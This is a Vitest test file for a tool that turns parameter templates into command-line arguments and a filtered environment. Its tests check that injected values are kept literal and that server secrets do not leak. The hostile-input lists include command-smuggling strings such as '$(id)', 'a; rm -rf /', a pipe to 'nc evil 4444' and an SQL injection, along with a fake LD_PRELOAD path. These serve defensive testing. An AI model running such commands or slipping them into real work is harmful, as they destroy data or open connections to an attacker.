import { describe, expect, it } from 'vitest';

import { parseConfig } from '../../src/config/load.js';
import type { CommandAction } from '../../src/core/action.js';
import { validateParams } from '../../src/core/params.js';
import type { ParamValue } from '../../src/core/params-types.js';
import { commandEnv, renderCommand, serverBasics } from '../../src/core/render-command.js';
import { formatValue, hasPlaceholderSyntax, parseTemplate, renderTemplate, templateParams, type Template } from '../../src/core/template.js';

function parsed(source: string): Template {
  const result = parseTemplate(source);
  if ('error' in result) throw new Error(result.error);
  return result.template;
}

function parseError(source: string): string {
  const result = parseTemplate(source);
  if (!('error' in result)) throw new Error(`expected ${JSON.stringify(source)} to be malformed`);
  return result.error;
}

describe('parseTemplate', () => {
  it.each<[string, Template]>([
    ['plain', [{ text: 'plain' }]],
    ['', [{ text: '' }]],
    ['{{x}}', [{ param: 'x' }]],
    ['{{ x }}', [{ param: 'x' }]],
    ['--name={{who}}', [{ text: '--name=' }, { param: 'who' }]],
    ['{{a}}{{b}}', [{ param: 'a' }, { param: 'b' }]],
    ['pre-{{a}}-mid-{{_b2}}-post', [{ text: 'pre-' }, { param: 'a' }, { text: '-mid-' }, { param: '_b2' }, { text: '-post' }]],
    ['single } and { braces', [{ text: 'single } and { braces' }]],
    ['}}', [{ text: '}}' }]],
  ])('%j → %j', (source, template) => {
    expect(parsed(source)).toEqual(template);
  });

  it.each(['{{ x', '{{1x}}', '{{x-y}}', '{{}}', '{{ }}', 'a {{x}} {{', '{{x.y}}', '{{$(id)}}'])('%j is malformed', (source) => {
    expect(parseError(source)).toMatch(/^malformed placeholder at "\{\{/);
  });

  it('templateParams lists the parameters in order', () => {
    expect(templateParams(parsed('{{a}}x{{b}}{{a}}'))).toEqual(['a', 'b', 'a']);
    expect(templateParams(parsed('none'))).toEqual([]);
  });

  it.each([
    ['{{x}}', true],
    ['SELECT {{', true],
    ['SELECT { {', false],
    ['$PORTHOLE_PARAM_X', false],
  ])('hasPlaceholderSyntax(%j) is %s', (text, has) => {
    expect(hasPlaceholderSyntax(text)).toBe(has);
  });
});

describe('renderTemplate', () => {
  const HOSTILE = ['a b c', `it's "quoted"`, '$(id)', '`id`', 'a; rm -rf /', 'x | y && z', 'line1\nline2', '  ', '{{y}}', '*', '\\'];

  it.each(HOSTILE)('a value %j is substituted verbatim into one element', (value) => {
    expect(renderTemplate(parsed('{{x}}'), { x: value })).toBe(value);
    expect(renderTemplate(parsed('--arg={{x}}!'), { x: value })).toBe(`--arg=${value}!`);
  });

  it('a value holding {{...}} is not expanded again', () => {
    expect(renderTemplate(parsed('{{x}}-{{y}}'), { x: '{{y}}', y: 'Y' })).toBe('{{y}}-Y');
  });

  it('an element that is exactly {{x}} with a null value is dropped', () => {
    expect(renderTemplate(parsed('{{x}}'), { x: null })).toBeUndefined();
    expect(renderTemplate(parsed('{{ x }}'), { x: null })).toBeUndefined();
  });

  it('a null value inside a longer element renders as empty text', () => {
    expect(renderTemplate(parsed('--since={{x}}'), { x: null })).toBe('--since=');
    expect(renderTemplate(parsed('{{x}}{{y}}'), { x: null, y: null })).toBe('');
  });

  it('an empty string is kept as an (empty) element', () => {
    expect(renderTemplate(parsed('{{x}}'), { x: '' })).toBe('');
  });

  it.each<[ParamValue, string]>([
    [42, '42'],
    [-1.5, '-1.5'],
    [true, 'true'],
    [false, 'false'],
    [null, ''],
    ['s', 's'],
  ])('formatValue(%j) is %j', (value, text) => {
    expect(formatValue(value)).toBe(text);
    if (value !== null) expect(renderTemplate(parsed('{{x}}'), { x: value })).toBe(text);
  });
});

const SERVER_ENV: NodeJS.ProcessEnv = {
  PATH: '/opt/bin:/usr/bin',
  LANG: 'de_DE.UTF-8',
  HOME: '/home/porthole',
  TZ: 'Europe/Berlin',
  SECRET_TOKEN: 'do-not-leak-me',
  TASKS_DB_PASSWORD: 'hunter2',
  LD_PRELOAD: '/tmp/evil.so',
  PORTHOLE_PARAM_INJECTED: 'from the server',
  USER: 'root',
};

function compile(lines: string[]): CommandAction {
  const config = parseConfig(['actions:', '  a:', ...lines, ''].join('\n'), '/nonexistent/porthole.yaml', {});
  const action = config.actions.get('a');
  if (action?.kind !== 'command') throw new Error('expected a command action');
  return action;
}

describe('renderCommand', () => {
  const action = compile([
    '    command: [grep, -r, --, "{{pattern}}", "prefix-{{pattern}}-suffix", "{{dir}}", "{{count}}", "{{flag}}", "{{opt}}"]',
    '    env: { GREP_COLORS: "mt=01;31", LC_ALL: C }',
    '    timeout: 7s',
    '    maxOutput: 2KiB',
    '    params:',
    '      pattern: { type: string, multiline: true }',
    '      dir: { type: enum, values: [/var/log, "/srv/my files"] }',
    '      count: { type: integer, default: 3 }',
    '      flag: { type: boolean, default: false }',
    '      opt: { type: string, required: false }',
  ]);

  const HOSTILE = [
    'a b c',
    `it's "quoted"`,
    '$(id)',
    '`reboot`',
    'x; rm -rf / #',
    'a | nc evil 4444',
    'true && false || x',
    'line1\nline2\tcol',
    '* ? [a-z]',
    '${HOME}',
    "'; DROP TABLE tasks; --",
    '\\',
  ];

  it.each(HOSTILE)('%j stays exactly one argv element, unchanged', (value) => {
    const params = validateParams(action, { pattern: value, dir: '/srv/my files' });
    const spec = renderCommand(action, params, SERVER_ENV);
    expect(spec.file).toBe('grep');
    expect(spec.args).toEqual(['-r', '--', value, `prefix-${value}-suffix`, '/srv/my files', '3', 'false']);
    expect(spec.env.PORTHOLE_PARAM_PATTERN).toBe(value);
  });

  it('an optional parameter that was not given drops its element', () => {
    const spec = renderCommand(action, validateParams(action, { pattern: 'p', dir: '/var/log', opt: '' }), SERVER_ENV);
    expect(spec.args).toEqual(['-r', '--', 'p', 'prefix-p-suffix', '/var/log', '3', 'false']);
    expect(spec.env).not.toHaveProperty('PORTHOLE_PARAM_OPT');
    const given = renderCommand(action, validateParams(action, { pattern: 'p', dir: '/var/log', opt: 'o o' }), SERVER_ENV);
    expect(given.args).toEqual(['-r', '--', 'p', 'prefix-p-suffix', '/var/log', '3', 'false', 'o o']);
  });

  it('the environment holds only PATH, LANG, HOME, TZ, the action env and PORTHOLE_PARAM_*', () => {
    const spec = renderCommand(action, validateParams(action, { pattern: 'p', dir: '/var/log', flag: 'yes' }), SERVER_ENV);
    expect(spec.env).toEqual({
      PATH: '/opt/bin:/usr/bin',
      LANG: 'de_DE.UTF-8',
      HOME: '/home/porthole',
      TZ: 'Europe/Berlin',
      GREP_COLORS: 'mt=01;31',
      LC_ALL: 'C',
      PORTHOLE_PARAM_PATTERN: 'p',
      PORTHOLE_PARAM_DIR: '/var/log',
      PORTHOLE_PARAM_COUNT: '3',
      PORTHOLE_PARAM_FLAG: 'true',
    });
    expect(spec.env).not.toHaveProperty('SECRET_TOKEN');
    expect(spec.env).not.toHaveProperty('TASKS_DB_PASSWORD');
    expect(spec.env).not.toHaveProperty('LD_PRELOAD');
    expect(spec.env).not.toHaveProperty('PORTHOLE_PARAM_INJECTED');
    expect(JSON.stringify(spec)).not.toContain('do-not-leak-me');
    expect(JSON.stringify(spec)).not.toContain('hunter2');
  });

  it('uses safe fallbacks when the server has no PATH, LANG or HOME, and no TZ unless set', () => {
    const env = commandEnv(action, validateParams(action, { pattern: 'p', dir: '/var/log' }), { SECRET_TOKEN: 'x' });
    expect(Object.keys(env).sort()).toEqual(['GREP_COLORS', 'HOME', 'LANG', 'LC_ALL', 'PATH', 'PORTHOLE_PARAM_COUNT', 'PORTHOLE_PARAM_DIR', 'PORTHOLE_PARAM_FLAG', 'PORTHOLE_PARAM_PATTERN']);
    expect(env.PATH).toMatch(/\/usr\/bin/);
    expect(env.LANG).toBe('C.UTF-8');
    expect(env.HOME).toBe('/');
  });

  it('takes the same basics from a snapshot of the server environment as from the environment itself', () => {
    const server = { ...SERVER_ENV, TZ: 'Europe/Oslo' };
    const basics = serverBasics(server);
    expect(Object.keys(basics).sort()).toEqual(['HOME', 'LANG', 'PATH', 'TZ']);
    const params = validateParams(action, { pattern: 'p', dir: '/var/log' });
    expect(commandEnv(action, params, basics)).toEqual(commandEnv(action, params, server));
    expect(serverBasics({ SECRET_TOKEN: 'x' })).toEqual({});
  });

  it('carries the limits and cwd of the action', () => {
    const spec = renderCommand(action, validateParams(action, { pattern: 'p', dir: '/var/log' }), SERVER_ENV);
    expect(spec).toMatchObject({ timeoutMs: 7000, maxOutputBytes: 2048, killGraceMs: 5000, cwd: undefined });
  });

  it('a shell action gets its parameters only through the environment', () => {
    const shell = compile(['    shell: grep -- "$PORTHOLE_PARAM_Q" /etc/hosts', '    params: { q: { type: string } }']);
    const spec = renderCommand(shell, validateParams(shell, { q: '$(id); `reboot`' }), SERVER_ENV);
    expect(spec.file).toBe('/bin/sh');
    expect(spec.args).toEqual(['-c', 'grep -- "$PORTHOLE_PARAM_Q" /etc/hosts']);
    expect(spec.env.PORTHOLE_PARAM_Q).toBe('$(id); `reboot`');
    expect(spec.env).not.toHaveProperty('SECRET_TOKEN');
  });

  it('refuses parameters validated for another action', () => {
    const other = compile(['    command: [echo]']);
    const otherParams = validateParams({ ...other, id: 'other' }, {});
    expect(() => renderCommand(other, otherParams, SERVER_ENV)).toThrow(/validated for "other"/);
  });
});
